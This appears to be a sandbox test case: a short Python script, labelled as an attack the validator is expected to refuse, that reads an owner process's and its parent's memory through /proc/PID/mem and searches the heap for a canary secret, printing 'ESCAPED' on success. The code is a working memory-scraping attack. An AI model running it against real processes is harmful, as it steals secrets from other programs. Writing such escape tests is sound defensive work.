# attack: /proc/PID/mem is another process's memory as a file: looks for the key in the heap of its owner and of its zygote
# expect: validator
# validator: refused
import os
import re

SECRET = re.compile(rb"CANARY_7f[3]a[\w-]*")
MOST = 128 * 1024 * 1024


def heap(pid):
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            area, rights, _, device, *_ = line.split(maxsplit=5)
            if rights.startswith("rw"):
                start, end = (int(part, 16) for part in area.split("-"))
                yield start, end


for pid in ("@OWNER_PID@", os.getppid()):
    read, hits = 0, set()
    try:
        memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        for start, end in heap(pid):
            for place in range(start, end, 1 << 20):
                if read > MOST or len(hits) > 3:
                    break
                try:
                    data = os.pread(memory, min(1 << 20, end - place), place)
                except OSError:
                    continue
                read += len(data)
                hits.update(SECRET.findall(data))
    except OSError as error:
        print(pid, error)
        continue
    print(f"ESCAPED: read {read} bytes of process {pid}", flush=True)
    for hit in hits:
        print(f"ESCAPED: process {pid} holds {hit[:60]!r}", flush=True)
